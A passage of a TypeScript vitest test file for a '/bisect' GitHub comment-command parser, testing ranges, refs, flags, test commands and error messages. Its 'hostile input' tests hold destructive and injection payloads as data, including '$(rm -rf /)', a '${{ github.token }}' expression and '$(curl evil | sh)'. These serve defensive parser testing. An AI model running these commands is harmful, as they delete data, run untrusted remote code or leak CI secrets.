/**
 * The `/bisect` comment grammar (app/src/command/parse-command.ts), case by case, as maintainers
 * write comments on GitHub: what is a command, what it asks for, and what a mistake is answered with.
 */
import { describe, expect, it } from "vitest";
import {
  DEFAULT_EXAMPLE,
  isValidRefExpression,
  MAX_COMMAND_LENGTH,
  parseComment,
  type BisectCommand,
  type ParseResult,
} from "../../../app/src/command/parse-command.js";
import { formatDuration, OPTIONS, optionsOn, parseDuration } from "../../../action/src/options.js";
import { formatBisectCommand } from "../../../app/src/command/format-command.js";
import { bisectCommandSchema, bisectOptionsSchema, COMMENT_OPTION_KEYS } from "../../../app/src/command/bisect-command.js";
import { codeSpan } from "../../../app/src/messages/markdown.js";

/** A value quoted in a message, as the grammar quotes it. */
function inlineCode(text: string): string {
  return codeSpan(text, 80);
}

type Bisect = Extract<BisectCommand, { kind: "bisect" }>;

/** The command a comment asks for; fails the test when it is not accepted. */
function accepted(body: string): BisectCommand {
  const result = parseComment(body);
  if (result === null) throw new Error(`no command found in ${JSON.stringify(body)}`);
  if (!result.ok) throw new Error(`refused ${JSON.stringify(body)}: ${result.message}`);
  expect(bisectCommandSchema.safeParse(result.command).success).toBe(true);
  return result.command;
}

function bisect(body: string): Bisect {
  const command = accepted(body);
  if (command.kind !== "bisect") throw new Error(`expected a bisect, got ${command.kind}`);
  return command;
}

/** The refusal of a comment; its example must itself be accepted. */
function refused(body: string): Extract<ParseResult, { ok: false }> {
  const result = parseComment(body);
  if (result === null) throw new Error(`no command found in ${JSON.stringify(body)}`);
  if (result.ok) throw new Error(`accepted ${JSON.stringify(body)}: ${JSON.stringify(result.command)}`);
  expect(result.message.length).toBeGreaterThan(0);
  expect(parseComment(result.example)?.ok, `example ${JSON.stringify(result.example)}`).toBe(true);
  return result;
}

describe("finding the command in a comment", () => {
  it("ignores comments without a /bisect line", () => {
    expect(parseComment("")).toBeNull();
    expect(parseComment("LGTM, thanks!")).toBeNull();
    expect(parseComment("Could someone run /bisect v1.4..main on this?")).toBeNull();
    expect(parseComment("`/bisect v1.4..main`")).toBeNull();
    expect(parseComment("- /bisect v1.4..main")).toBeNull();
  });

  it("needs /bisect as a whole, case-sensitive first word", () => {
    expect(parseComment("/bisectfoo v1..main")).toBeNull();
    expect(parseComment("/bisect: v1..main")).toBeNull();
    expect(parseComment("/Bisect v1..main")).toBeNull();
    expect(parseComment("/BISECT v1..main")).toBeNull();
    expect(parseComment("bisect v1..main")).toBeNull();
  });

  it("takes the first /bisect line, after any text, with leading spaces", () => {
    const body = "Thanks for the report.\n\n   /bisect v1.4..main -- npm test\n/bisect status";
    expect(bisect(body)).toEqual({ kind: "bisect", range: { goods: ["v1.4"], bad: "main" }, options: {}, command: "npm test" });
    expect(parseComment(body)!.line).toBe("/bisect v1.4..main -- npm test");
    expect(bisect("\t/bisect v1..v2").range).toEqual({ goods: ["v1"], bad: "v2" });
  });

  it("reads CRLF and lone CR line endings", () => {
    expect(bisect("hi\r\n/bisect v1.4..main --flaky\r\n")).toMatchObject({ options: { flaky: true }, command: null });
    expect(bisect("hi\r/bisect v1.4..main -- make test\rbye").command).toBe("make test");
  });

  it("skips lines in > quotes", () => {
    expect(parseComment("> /bisect v1.4..main -- npm test")).toBeNull();
    expect(parseComment("  > /bisect v1.4..main\n>/bisect status")).toBeNull();
    const reply = "> /bisect v1.0..main -- npm test\n> did not work\n\n/bisect v1.4..main -- npm test";
    expect(bisect(reply).range).toEqual({ goods: ["v1.4"], bad: "main" });
  });

  it("skips lines in fenced code blocks, which may show a command without being one", () => {
    const docs = "Usage:\n```\n/bisect v1.4..main -- npm test\n```\n";
    expect(parseComment(docs)).toBeNull();
    expect(parseComment("~~~md\n/bisect status\n~~~")).toBeNull();
    expect(parseComment("````\n```\n/bisect status\n```\n````")).toBeNull();
    const after = "```\n/bisect cancel\n```\n/bisect status";
    expect(accepted(after)).toEqual({ kind: "status" });
    // A fence closes only with the same character: ~~~ does not close ```.
    expect(parseComment("```\n~~~\n/bisect status\n```")).toBeNull();
    // An unclosed fence runs to the end of the comment, as GitHub renders it.
    expect(parseComment("```\n/bisect status")).toBeNull();
  });

  it("skips HTML comments, where templates hide instructions", () => {
    expect(parseComment("<!--\n/bisect v1.4..main -- npm test\n-->")).toBeNull();
    expect(accepted("<!-- note -->\n/bisect help")).toEqual({ kind: "help" });
  });
});

describe("ranges", () => {
  it("reads good..bad with tags, branches, SHAs and ~/^ suffixes", () => {
    expect(bisect("/bisect v1.4..main").range).toEqual({ goods: ["v1.4"], bad: "main" });
    expect(bisect("/bisect release/2.x..feature/login").range).toEqual({ goods: ["release/2.x"], bad: "feature/login" });
    expect(bisect("/bisect a1b2..0123456789abcdef0123456789abcdef01234567").range).toEqual({
      goods: ["a1b2"],
      bad: "0123456789abcdef0123456789abcdef01234567",
    });
    expect(bisect(`/bisect ${"a".repeat(64)}..HEAD`).range!.goods).toEqual(["a".repeat(64)]);
    expect(bisect("/bisect main~20..HEAD^2").range).toEqual({ goods: ["main~20"], bad: "HEAD^2" });
    expect(bisect("/bisect main~..HEAD^").range).toEqual({ goods: ["main~"], bad: "HEAD^" });
    expect(bisect("/bisect HEAD~3^2~1..HEAD").range!.goods).toEqual(["HEAD~3^2~1"]);
  });

  it("reads several good refs separated by commas", () => {
    expect(bisect("/bisect v1.3,v1.4,abc1234..main").range).toEqual({ goods: ["v1.3", "v1.4", "abc1234"], bad: "main" });
    expect(bisect("/bisect v1.3,v1.3..main").range!.goods).toEqual(["v1.3"]);
  });

  it("means the pull request's base..head when no range is given", () => {
    expect(bisect("/bisect")).toEqual({ kind: "bisect", range: null, options: {}, command: null });
    expect(bisect("/bisect --flaky -- npm test")).toEqual({ kind: "bisect", range: null, options: { flaky: true }, command: "npm test" });
  });

  it("takes the range anywhere among the options", () => {
    expect(bisect("/bisect --flaky v1..v2 --first-parent")).toMatchObject({
      range: { goods: ["v1"], bad: "v2" },
      options: { flaky: true, firstParent: true },
    });
  });

  it("refuses three dots and suggests two", () => {
    const r = refused("/bisect v1.4...main -- npm test");
    expect(r.message).toContain("`v1.4...main` has three dots");
    expect(r.message).toContain("`v1.4..main`");
    expect(r.example).toBe("/bisect v1.4..main -- npm test");
  });

  it("refuses a missing side, an empty good, several bad refs and the same ref on both sides", () => {
    expect(refused("/bisect ..main").message).toContain("no good ref before `..`");
    expect(refused("/bisect v1.4..").message).toContain("no bad ref after `..`");
    expect(refused("/bisect v1.4..").example).toBe("/bisect v1.4..main");
    expect(refused("/bisect v1,,v2..main").message).toContain("empty good ref");
    expect(refused("/bisect v1..main,dev").message).toContain("several bad refs");
    const same = refused("/bisect main..main");
    expect(same.message).toContain("`main` is both a good ref and the bad one");
    expect(same.example).toBe("/bisect v1.4..main");
    expect(refused("/bisect a..b c..d").message).toContain("Give one range");
  });

  it("refuses more than 8 good refs", () => {
    const goods = Array.from({ length: 9 }, (_, i) => `v${i}`).join(",");
    const r = refused(`/bisect ${goods}..main`);
    expect(r.message).toContain("names 9 good refs; give at most 8");
  });

  it("answers a single ref or two refs without .. with the range it needs", () => {
    const single = refused("/bisect v1.4 -- npm test");
    expect(single.message).toContain("`v1.4` is a single ref");
    expect(single.example).toBe("/bisect v1.4..main -- npm test");
    const two = refused("/bisect v1.4 main");
    expect(two.message).toBe("`v1.4 main` is not a range; write `v1.4..main` (good..bad).");
    expect(two.example).toBe("/bisect v1.4..main");
  });

  it("answers words before the test command without -- by suggesting --", () => {
    const r = refused("/bisect v1.4..main npm test");
    expect(r.message).toBe("Unexpected `npm`; if the test command starts there, put `--` before it.");
    expect(r.example).toBe("/bisect v1.4..main -- npm test");
    expect(refused("/bisect npm test").example).toBe("/bisect -- npm test");
  });
});

describe("refs", () => {
  const forbidden: [string, string][] = [
    ["v1$x", "`$` is not allowed"],
    ["v1`x", "`` ` `` is not allowed"],
    ["v1'x", "`'` is not allowed"],
    ['v1"x', '`"` is not allowed'],
    ["v1;x", "`;` is not allowed"],
    ["v1|x", "`|` is not allowed"],
    ["v1&x", "`&` is not allowed"],
    ["v1<x", "`<` is not allowed"],
    ["v1>x", "`>` is not allowed"],
    ["v1(x", "`(` is not allowed"],
    ["v1)x", "`)` is not allowed"],
    ["v1{x", "`{` is not allowed"],
    ["v1}x", "`}` is not allowed"],
    ["v1!x", "`!` is not allowed"],
    ["v1#x", "`#` is not allowed"],
    ["v1%x", "`%` is not allowed"],
    ["v1:x", "`:` is not allowed"],
    ["v1?x", "`?` is not allowed"],
    ["v1*x", "`*` is not allowed"],
    ["v1[x", "`[` is not allowed"],
    ["v1\\x", "`\\` is not allowed"],
    ["v1\u0007x", "the control character U+0007 is not allowed"],
    ["v1\u007fx", "the control character U+007F is not allowed"],
    ["vé1", "the non-ASCII character `é` (U+00E9) is not allowed"],
    ["v1😀", "the non-ASCII character `😀` (U+1F600) is not allowed"],
    ["v1\ud800", "the non-ASCII character U+D800 is not allowed"],
    ["HEAD@{1}", "`{` is not allowed"],
    ["-rf", "it starts with `-`"],
    [".hidden", "it starts with `.`"],
    ["/abs", "it starts with `/`"],
    ["release/", "it ends with `/`"],
    ["v1.", "it ends with `.`"],
    ["a//b", "it contains `//`"],
    ["a/.b", "the part `.b` starts with `.`"],
    ["main.lock", "the part `main.lock` ends with `.lock`"],
    ["a.lock/b", "the part `a.lock` ends with `.lock`"],
    ["@", "`@` alone is not allowed"],
    ["~1", "it has no name before `~` or `^`"],
    ["main~x", "only a number may follow `~` or `^`"],
    ["main^@", "only a number may follow `~` or `^`"],
  ];

  it.each(forbidden)("refuses %j and says why", (ref, why) => {
    expect(isValidRefExpression(ref)).toBe(false);
    // A ref ending in `.` would make `..` three dots on the good side: test it as the bad one.
    const r = refused(ref.endsWith(".") ? `/bisect main..${ref} -- npm test` : `/bisect ${ref}..main -- npm test`);
    expect(r.message).toContain(`${inlineCode(ref)} is not a valid ref: ${why}`);
    expect(r.example.startsWith("/bisect ")).toBe(true);
  });

  it("refuses `..` inside a ref, `@{`, spaces and commas", () => {
    expect(isValidRefExpression("a..b")).toBe(false);
    expect(isValidRefExpression("a@{u}")).toBe(false);
    expect(isValidRefExpression("a b")).toBe(false);
    expect(isValidRefExpression("a,b")).toBe(false);
    expect(isValidRefExpression("")).toBe(false);
    expect(refused("/bisect a..b..c").message).toContain("`b..c` is not a valid ref: it contains `..`");
  });

  it("accepts what git accepts otherwise", () => {
    for (const ref of ["main", "v1.4", "v1.4.0-rc.1", "release/2.x", "user@host", "a.b/c_d+e=f", "HEAD", "HEAD~", "HEAD^^", "abcd", "main~20"]) {
      expect(isValidRefExpression(ref), ref).toBe(true);
    }
  });

  it("refuses refs over 200 characters", () => {
    expect(isValidRefExpression("a".repeat(200))).toBe(true);
    expect(isValidRefExpression("a".repeat(201))).toBe(false);
    expect(refused(`/bisect ${"a".repeat(201)}..main`).message).toContain("it is 201 characters long; a ref has at most 200");
  });

  it("repairs refs in the example", () => {
    expect(refused("/bisect v1.4$..main -- npm test").example).toBe("/bisect v1.4..main -- npm test");
    expect(refused("/bisect v1.4..main;").example).toBe("/bisect v1.4..main");
    expect(refused("/bisect $$$..main").example).toBe("/bisect v1.4..main");
  });
});

describe("options", () => {
  it("reads every flag, with a space or = before values", () => {
    expect(bisect("/bisect v1..v2 --first-parent --flaky --parallel 4 --timeout 30m --confidence 0.95 --step-timeout 10m").options).toEqual({
      firstParent: true,
      flaky: true,
      parallel: 4,
      timeoutSeconds: 1800,
      confidence: 0.95,
      stepTimeoutSeconds: 600,
    });
    expect(bisect("/bisect v1..v2 --parallel=16 --timeout=2h --flaky --confidence=.999 --step-timeout=90").options).toEqual({
      parallel: 16,
      timeoutSeconds: 7200,
      flaky: true,
      confidence: 0.999,
      stepTimeoutSeconds: 90,
    });
  });

  it.each([
    ["90s", 90],
    ["60", 60],
    ["1m", 60],
    ["30m", 1800],
    ["1h30m", 5400],
    ["1h0m30s", 3630],
    ["2h", 7200],
    ["6h", 21600],
    ["21600", 21600],
  ])("reads --timeout %s as %i seconds", (text, seconds) => {
    expect(bisect(`/bisect v1..v2 --timeout ${text}`).options.timeoutSeconds).toBe(seconds);
  });

  it.each(["59s", "59", "0", "6h1s", "7h", "1.5h", "30M", "m", "1h1h", "30m1h", "1x", "-5m", "30s30m"])("refuses --timeout %j", (text) => {
    const r = refused(`/bisect v1..v2 --timeout=${text}`);
    expect(r.message).toContain("`--timeout` must be a duration from 1m to 6h, such as 90s, 30m, 1h30m or 900 (seconds), got");
    expect(r.message).toContain(inlineCode(text));
  });

  it("clamps a timeout out of range in the example", () => {
    expect(refused("/bisect v1..v2 --timeout 10s").example).toBe("/bisect v1..v2 --timeout 1m");
    expect(refused("/bisect v1..v2 --timeout 8h").example).toBe("/bisect v1..v2 --timeout 6h");
  });

  it.each(["0", "65", "100", "-1", "4.5", "four", "1e1", "+4"])("refuses --parallel %j", (value) => {
    const r = refused(`/bisect v1..v2 --parallel ${value} -- npm test`);
    expect(r.message).toBe(`\`--parallel\` must be a whole number from 1 to 64, got ${inlineCode(value)}.`);
  });

  it("accepts --parallel from 1 to 64", () => {
    expect(bisect("/bisect v1..v2 --parallel 1").options.parallel).toBe(1);
    expect(bisect("/bisect v1..v2 --parallel 16").options.parallel).toBe(16);
    expect(bisect("/bisect v1..v2 --parallel 64").options.parallel).toBe(64);
    expect(refused("/bisect v1..v2 --parallel 100").example).toBe("/bisect v1..v2 --parallel 64");
    expect(refused("/bisect v1..v2 --parallel 0").example).toBe("/bisect v1..v2 --parallel 1");
  });

  it.each(["0.5", "1", "1.0", "0", "2", "99%", "abc", "-0.9", "0.9.9"])("refuses --confidence %j", (value) => {
    const r = refused(`/bisect v1..v2 --flaky --confidence ${value}`);
    expect(r.message).toContain(`\`--confidence\` must be a probability above 0.5 and below 1, such as 0.99, got ${inlineCode(value)}.`);
  });

  it("accepts --confidence only with --flaky", () => {
    expect(bisect("/bisect v1..v2 --confidence 0.9 --flaky").options).toEqual({ confidence: 0.9, flaky: true });
    const r = refused("/bisect v1..v2 --confidence 0.9 -- npm test");
    expect(r.message).toBe("`--confidence` applies only to a flaky test; add `--flaky`.");
    expect(r.example).toBe("/bisect v1..v2 --flaky --confidence 0.9 -- npm test");
    expect(refused("/bisect v1..v2 --flaky --confidence 99%").example).toBe("/bisect v1..v2 --flaky --confidence 0.99");
  });

  it("names a missing value", () => {
    expect(refused("/bisect v1..v2 --parallel").message).toBe("`--parallel` needs a value: a whole number from 1 to 64, as in `--parallel 4`.");
    expect(refused("/bisect v1..v2 --parallel --flaky").example).toBe("/bisect v1..v2 --flaky --parallel 4");
    expect(refused("/bisect v1..v2 --timeout= -- make").message).toContain("`--timeout` needs a value");
    expect(refused("/bisect v1..v2 --timeout -- make").example).toBe("/bisect v1..v2 --timeout 30m -- make");
    expect(refused("/bisect v1..v2 --step-timeout").message).toBe(
      "`--step-timeout` needs a value: a duration up to 6h, such as 90s, 10m or 600 (seconds); 0 for no limit, as in `--step-timeout 10m`.",
    );
    expect(refused("/bisect v1..v2 --flaky --confidence").example).toBe("/bisect v1..v2 --flaky --confidence 0.99");
    // The range is not taken as a value.
    expect(refused("/bisect --parallel v1..v2").example).toBe("/bisect v1..v2 --parallel 4");
  });

  it("refuses a value given to a switch", () => {
    const r = refused("/bisect v1..v2 --flaky=yes");
    expect(r.message).toBe("`--flaky` takes no value, got `--flaky=yes`; write `--flaky` alone.");
    expect(r.example).toBe("/bisect v1..v2 --flaky");
  });

  it("refuses a repeated flag and names it", () => {
    expect(refused("/bisect v1..v2 --flaky --flaky").message).toBe("`--flaky` is given twice; give it once.");
    const r = refused("/bisect v1..v2 --parallel 2 --parallel=3");
    expect(r.message).toBe("`--parallel` is given twice; give it once.");
    expect(r.example).toBe("/bisect v1..v2 --parallel 2");
  });

  it.each([
    ["--paralel", "--parallel"],
    ["--parallell", "--parallel"],
    ["--flakey", "--flaky"],
    ["--flaky-test", null],
    ["--first_parent", "--first-parent"],
    ["--firstparent", "--first-parent"],
    ["--timout", "--timeout"],
    ["--confidance", "--confidence"],
    ["--step_timeout", "--step-timeout"],
    ["--steptimeout", "--step-timeout"],
    ["-flaky", "--flaky"],
    ["--FLAKY", "--flaky"],
    ["--jobs", null],
    ["-x", null],
  ])("suggests the closest flag for %s", (flag, suggestion) => {
    const r = refused(`/bisect v1..v2 ${flag}`);
    if (suggestion) expect(r.message.startsWith(`Unknown option \`${flag}\`; did you mean \`${suggestion}\`?`)).toBe(true);
    else expect(r.message).toContain(`Unknown option \`${flag}\`. The options are \`--first-parent\`, \`--flaky\``);
  });

  it("repairs a misspelt flag and keeps its value in the example", () => {
    const r = refused("/bisect v1.4..main --paralel 4 -- npm test");
    expect(r.message).toBe("Unknown option `--paralel`; did you mean `--parallel`?");
    expect(r.example).toBe("/bisect v1.4..main --parallel 4 -- npm test");
    expect(refused("/bisect v1.4..main --timout=45m").example).toBe("/bisect v1.4..main --timeout 45m");
    expect(refused("/bisect v1.4..main --jobs 4 --flaky").example).toBe("/bisect v1.4..main --flaky");
  });

  it("points --help to /bisect help", () => {
    const r = refused("/bisect --help");
    expect(r.message).toBe("`--help` is not an option; for help, comment `/bisect help`.");
    expect(r.example).toBe("/bisect help");
  });

  it("answers dashes that editors made of -- with the hyphens", () => {
    const r = refused("/bisect v1.4..main —flaky — npm test");
    expect(r.message).toContain("`—flaky` starts with a dash (`—`) where an option has two hyphens; write `--flaky`.");
    expect(r.message).toContain("`—` is a dash where `--` (two hyphens) should come before the test command.");
    expect(r.example).toBe("/bisect v1.4..main --flaky -- npm test");
    expect(refused("/bisect v1..v2 –parallel 3").example).toBe("/bisect v1..v2 --parallel 3");
  });

  it("shows the first three problems and fixes all of them in the example", () => {
    const r = refused("/bisect v1.4..main --parallel 100 --timeout 9h --confidence 2");
    expect(r.message).toContain("got `100`");
    expect(r.message).toContain("got `9h`");
    expect(r.message).toContain("got `2`");
    expect(r.message).toContain("One more problem is fixed in the example.");
    expect(r.example).toBe("/bisect v1.4..main --flaky --parallel 64 --confidence 0.99 --timeout 6h");
  });
});

describe("the options come from the options table", () => {
  it("has a flag for every option on the comment surface, in the table's order", () => {
    expect(COMMENT_OPTION_KEYS).toEqual(optionsOn("comment"));
    expect(Object.keys(bisectOptionsSchema.shape)).toEqual(optionsOn("comment"));
    const r = refused("/bisect v1..v2 --jobs");
    expect(r.message).toBe(
      "Unknown option `--jobs`. The options are `--first-parent`, `--flaky`, `--find-fix`, `--parallel <k>`, `--runners <k>`, `--confidence <p>`, `--timeout <duration>`, `--step-timeout <duration>` and `--confirm <n>`; the test command goes after `--`.",
    );
  });

  it.each(COMMENT_OPTION_KEYS.filter((key) => OPTIONS[key].kind !== "switch"))("states %s's rule from the table", (key) => {
    const definition = OPTIONS[key];
    const r = refused(`/bisect v1..v2 --flaky --${definition.name} nonsense`);
    expect(r.message).toBe(`\`--${definition.name}\` must be ${definition.rule}, got \`nonsense\`.`);
  });

  // Just inside and just outside each end of every range.
  it.each([
    ["--parallel 1", { parallel: 1 }],
    ["--parallel 64", { parallel: 64 }],
    ["--runners 1", { runners: 1 }],
    ["--runners 32", { runners: 32 }],
    ["--confidence 0.501", { confidence: 0.501 }],
    ["--confidence 0.999999", { confidence: 0.999999 }],
    ["--timeout 60", { timeoutSeconds: 60 }],
    ["--timeout 1m", { timeoutSeconds: 60 }],
    ["--timeout 6h", { timeoutSeconds: 21600 }],
    ["--timeout 21600", { timeoutSeconds: 21600 }],
    ["--step-timeout 0", { stepTimeoutSeconds: 0 }],
    ["--step-timeout 1s", { stepTimeoutSeconds: 1 }],
    ["--step-timeout 6h", { stepTimeoutSeconds: 21600 }],
    ["--step-timeout 5h59m59s", { stepTimeoutSeconds: 21599 }],
  ])("accepts %s", (flag, options) => {
    expect(bisect(`/bisect v1..v2 --flaky ${flag}`).options).toEqual({ flaky: true, ...options });
  });

  it.each([
    ["--parallel 0", "--parallel 1"],
    ["--parallel 65", "--parallel 64"],
    ["--runners 33", "--runners 32"],
    ["--runners 0", "--runners 1"],
    ["--confidence 0.5", "--confidence 0.99"],
    ["--confidence 1", "--confidence 0.99"],
    ["--timeout 59", "--timeout 1m"],
    ["--timeout 59s", "--timeout 1m"],
    ["--timeout 21601", "--timeout 6h"],
    ["--timeout 6h1s", "--timeout 6h"],
    ["--step-timeout -1", "--step-timeout 0s"],
    ["--step-timeout 21601", "--step-timeout 6h"],
    ["--step-timeout 6h0m1s", "--step-timeout 6h"],
  ])("refuses %s and repairs it to %s", (flag, repaired) => {
    const r = refused(`/bisect v1..v2 --flaky ${flag}`);
    const [name, value] = flag.split(" ");
    expect(r.message).toContain(`\`${name}\` must be`);
    expect(r.message).toContain(`got \`${value}\``);
    expect(r.example).toBe(`/bisect v1..v2 --flaky ${repaired}`);
  });

  it("writes every option back in the table's order", () => {
    const command: BisectCommand = {
      kind: "bisect",
      range: { goods: ["v1"], bad: "v2" },
      options: { stepTimeoutSeconds: 600, timeoutSeconds: 5400, confidence: 0.95, parallel: 4, flaky: true, firstParent: true },
      command: "npm test",
    };
    expect(formatBisectCommand(command)).toBe(
      "/bisect v1..v2 --first-parent --flaky --parallel 4 --confidence 0.95 --timeout 1h30m --step-timeout 10m -- npm test",
    );
  });
});

describe("the test command", () => {
  it("is everything after the first --, trimmed", () => {
    expect(bisect("/bisect v1..v2 -- npm test -- --watch=false  ").command).toBe("npm test -- --watch=false");
    expect(bisect("/bisect v1..v2 --   pytest -k 'not slow' ").command).toBe("pytest -k 'not slow'");
    expect(bisect("/bisect v1..v2\t--\tmake\ttest").command).toBe("make\ttest");
    expect(bisect("/bisect v1..v2 -- --flaky").command).toBe("--flaky");
    expect(bisect("/bisect v1..v2 -- --flaky").options).toEqual({});
  });

  it("is null when none is given (the repository's default applies)", () => {
    expect(bisect("/bisect v1..v2").command).toBeNull();
    expect(bisect("/bisect v1..v2\n\nIt broke in the last release.").command).toBeNull();
  });

  it("refuses an empty command after --", () => {
    const r = refused("/bisect v1.4..main --flaky --   ");
    expect(r.message).toContain("Nothing follows `--`");
    expect(r.example).toBe("/bisect v1.4..main --flaky -- npm test");
  });

  it("may be a fenced code block right below the line, with a language tag", () => {
    expect(bisect("/bisect v1..v2\n```\nnpm ci\nnpm test\n```").command).toBe("npm ci\nnpm test");
    expect(bisect("/bisect v1..v2\n```bash\nset -e\nmake -j4 test\n```\nThanks!").command).toBe("set -e\nmake -j4 test");
    expect(bisect("/bisect v1..v2\n~~~ sh\ncargo test\n~~~").command).toBe("cargo test");
    expect(bisect("/bisect v1..v2\r\n\r\n\r\n```shell\r\n./run.sh\r\n```\r\n").command).toBe("./run.sh");
    expect(bisect("/bisect v1..v2 --\n```\nnpm test\n```").command).toBe("npm test");
    expect(bisect("/bisect\n````\necho '```'\n````").command).toBe("echo '```'");
    // Indented fences lose their indentation from the content.
    expect(bisect("/bisect v1..v2\n  ```\n  make\n    make check\n  ```").command).toBe("make\n  make check");
    // Blank lines at the edges of the block are not part of the command; inside they are.
    expect(bisect("/bisect v1..v2\n```\n\nfoo\n\nbar\n\n```").command).toBe("foo\n\nbar");
  });

  it("keeps a code block that is not right below the line out of it", () => {
    expect(bisect("/bisect v1..v2\nThe log:\n```\nerror\n```").command).toBeNull();
    expect(bisect("/bisect v1..v2\n> ```\n> quoted\n> ```").command).toBeNull();
  });

  it("refuses a command both after -- and in a block", () => {
    const r = refused("/bisect v1.4..main -- npm test\n\n```\nnpm run e2e\n```");
    expect(r.message).toContain("The test command is given twice");
    expect(r.example).toBe("/bisect v1.4..main -- npm test");
  });

  it("refuses an empty block", () => {
    const r = refused("/bisect v1.4..main\n```sh\n\n```");
    expect(r.message).toContain("The code block below `/bisect` is empty");
    expect(r.example).toBe("/bisect v1.4..main");
  });

  it("refuses control characters other than tab and newline, and says where", () => {
    const r = refused("/bisect v1..v2 -- npm\u0000test");
    expect(r.message).toBe("The test command contains the control character U+0000 at line 1, column 4; only tabs and newlines are allowed.");
    expect(r.example).toBe("/bisect v1..v2 -- npm test");
    expect(refused("/bisect v1..v2\n```\nmake\nmake \u001b[31m\n```").message).toContain("U+001B at line 2, column 6");
    expect(refused("/bisect v1..v2 -- a\u0085b").message).toContain("U+0085");
    expect(refused("/bisect v1..v2 -- a\ud800b").message).toContain("lone surrogate U+D800");
    expect(bisect("/bisect v1..v2 -- echo 😀").command).toBe("echo 😀");
  });

  it("accepts up to MAX_COMMAND_LENGTH characters", () => {
    expect(MAX_COMMAND_LENGTH).toBe(16384);
    const longest = "x".repeat(MAX_COMMAND_LENGTH);
    expect(bisect(`/bisect v1..v2 -- ${longest}`).command).toBe(longest);
    const r = refused(`/bisect v1..v2 -- ${longest}y`);
    expect(r.message).toContain("is 16385 characters long; the limit is 16384");
    expect(r.example).toBe("/bisect v1..v2 -- npm test");
    expect(refused(`/bisect v1..v2\n\`\`\`\n${"x\n".repeat(9000)}\`\`\``).example).toBe("/bisect v1..v2");
  });
});

describe("status, cancel, retry, help", () => {
  it.each(["status", "cancel", "retry", "help"] as const)("reads /bisect %s", (word) => {
    expect(accepted(`/bisect ${word}`)).toEqual({ kind: word });
    expect(accepted(`  /bisect   ${word}  \r\n`)).toEqual({ kind: word });
    expect(accepted(`/bisect ${word}\n\`\`\`\nnot a command\n\`\`\``)).toEqual({ kind: word });
  });

  it("refuses anything after the word", () => {
    const r = refused("/bisect status please");
    expect(r.message).toBe("`/bisect status` takes nothing after it; remove `please`.");
    expect(r.example).toBe("/bisect status");
    expect(refused("/bisect cancel --flaky").example).toBe("/bisect cancel");
    expect(refused("/bisect retry -- npm test").example).toBe("/bisect retry");
  });

  it.each([
    ["stauts", "status"],
    ["statsu", "status"],
    ["Status", "status"],
    ["cancle", "cancel"],
    ["retyr", "retry"],
    ["hlep", "help"],
  ])("suggests /bisect %s → %s", (typo, word) => {
    const r = refused(`/bisect ${typo}`);
    expect(r.message).toBe(`Unknown command \`${typo}\`; did you mean \`/bisect ${word}\`?`);
    expect(r.example).toBe(`/bisect ${word}`);
  });

  it("refuses the word after a range or options", () => {
    const r = refused("/bisect --flaky status");
    expect(r.message).toBe("`status` is a command of its own: write `/bisect status` alone.");
    expect(r.example).toBe("/bisect status");
  });
});

describe("errors", () => {
  it("cut the line to 200 characters", () => {
    const r = refused(`/bisect v1..v2 --paralel ${"x".repeat(500)}`);
    expect(r.line).toHaveLength(200);
    expect(r.line.endsWith("…")).toBe(true);
  });

  it("show backticks in values in a code span they cannot break", () => {
    const r = refused("/bisect a``b..main");
    expect(r.message.startsWith("```a``b``` is not a valid ref")).toBe(true);
    expect(refused("/bisect `a..main").message.startsWith("`` `a `` is not a valid ref")).toBe(true);
  });

  it("fall back to the default example when nothing can be kept", () => {
    expect(refused("/bisect --jobs 4").example).toBe(DEFAULT_EXAMPLE);
    expect(refused("/bisect $$..$$").example).toBe("/bisect v1.4..main");
  });
});

describe("hostile input", () => {
  const injections = ["$(rm -rf /)", "`rm -rf /`", "${{ github.token }}", "$HOME", "a;rm", "a|sh", "a&&b", "'quoted'", '"double"', "<script>"];

  it.each(injections)("refuses %j in a ref", (payload) => {
    const r = parseComment(`/bisect ${payload}..main -- npm test`);
    expect(r === null || !r.ok).toBe(true);
    const r2 = parseComment(`/bisect v1..${payload}`);
    expect(r2 === null || !r2.ok).toBe(true);
    for (const result of [r, r2]) {
      if (result && !result.ok) expect(parseComment(result.example)?.ok).toBe(true);
    }
  });

  it("ends a ref at a line break: what follows is not part of the command line", () => {
    expect(bisect("/bisect v1..a\nb").range).toEqual({ goods: ["v1"], bad: "a" });
    expect(refused("/bisect a\nb..main").message).toContain("`a` is a single ref");
  });

  it.each(injections)("keeps %j verbatim in the test command", (payload) => {
    expect(bisect(`/bisect v1..v2 -- ${payload}`).command).toBe(payload);
    expect(bisect(`/bisect v1..v2\n\`\`\`\n${payload}\n\`\`\``).command).toBe(payload);
  });

  it("keeps newlines of a block command verbatim, and ends a -- command at the line's end", () => {
    expect(bisect("/bisect v1..v2\n```\necho a\n$(curl evil | sh)\n```").command).toBe("echo a\n$(curl evil | sh)");
    expect(bisect("/bisect v1..v2 -- echo a\nrm -rf /").command).toBe("echo a");
  });

  // No wall-clock limit (the suite's load decides that): a quadratic path on these 1 MB inputs
  // would take hours and fail on the test timeout instead.
  it("answers 64 KB and 1 MB strings with the right messages", () => {
    const big = "a".repeat(64 * 1024);
    expect(refused(`/bisect ${big}..main`).message).toContain("it is 65536 characters long");
    expect(refused(`/bisect v1..v2 -- ${big}`).message).toContain("65536 characters long");
    expect(parseComment(big)).toBeNull();
    expect(parseComment(`${"x\n".repeat(100_000)}/bisect status`)).toEqual({ ok: true, command: { kind: "status" }, line: "/bisect status" });
    expect(parseComment("```\n".repeat(100_000))).toBeNull();
    expect(refused(`/bisect ${",".repeat(1_000_000)}..main`).example).toBe("/bisect v1.4..main");
    expect(refused(`/bisect ${Array.from({ length: 50_000 }, (_, i) => `v${i}`).join(",")}..main`).message).toContain("50000 good refs");
    expect(refused(`/bisect ${"--flaky ".repeat(100_000)}`).message).toBe("`--flaky` is given twice; give it once.");
    expect(refused(`/bisect a${"~^".repeat(300_000)}..b`).message).toContain("characters long");
    expect(parseComment(`/bisect ${"\ud800".repeat(100_000)}`)!.ok).toBe(false);
    expect(parseComment("\r".repeat(1_000_000))).toBeNull();
  });

  it("never throws on values that are not strings", () => {
    expect(parseComment(undefined as unknown as string)).toBeNull();
    expect(parseComment(42 as unknown as string)).toBeNull();
  });
});

describe("formatting a command back", () => {
  it("writes one line, or a block for a multi-line command, that parses to the same command", () => {
    const commands: BisectCommand[] = [
      { kind: "status" },
      { kind: "bisect", range: null, options: {}, command: null },
      {
        kind: "bisect",
        range: { goods: ["v1.3", "v1.4"], bad: "main~2" },
